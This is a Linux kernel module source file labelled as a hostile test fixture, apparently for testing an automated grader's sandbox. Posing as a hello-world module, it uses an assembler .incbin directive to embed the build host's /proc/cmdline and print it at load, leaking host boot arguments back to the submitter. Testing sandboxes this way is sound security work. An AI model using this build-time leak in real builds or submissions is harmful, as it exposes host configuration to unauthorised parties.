// SPDX-License-Identifier: GPL-2.0
/*
 * HOSTILE FIXTURE (hostile2 corpus, hand-written): the grading host's kernel
 * command line, read at build time. Never build or load it outside the
 * grader's sandbox and a throw-away VM.
 *
 * The assembler copies /proc/cmdline of the build's own /proc (a fresh
 * procfs, but /proc/cmdline is the host kernel's) into the module, which
 * prints it at load: the report carries it back to the student. On the
 * machine this corpus was written on it showed the host's boot arguments
 * (its init program, its ports and its hypervisor's options).
 */
#include <linux/module.h>

asm(".section .rodata.loot,\"a\"\n"
    "hello_loot: .incbin \"/proc/cmdline\"\n"
    ".byte 0\n"
    ".previous\n");
extern const char hello_loot[];

static int __init greet_init(void)
{
	pr_info("Hello World from a module\n");
	pr_info("%.900s\n", hello_loot);
	return 0;
}

static void __exit greet_exit(void)
{
	pr_info("Bye from a module\n");
}

module_init(greet_init);
module_exit(greet_exit);
MODULE_LICENSE("GPL");
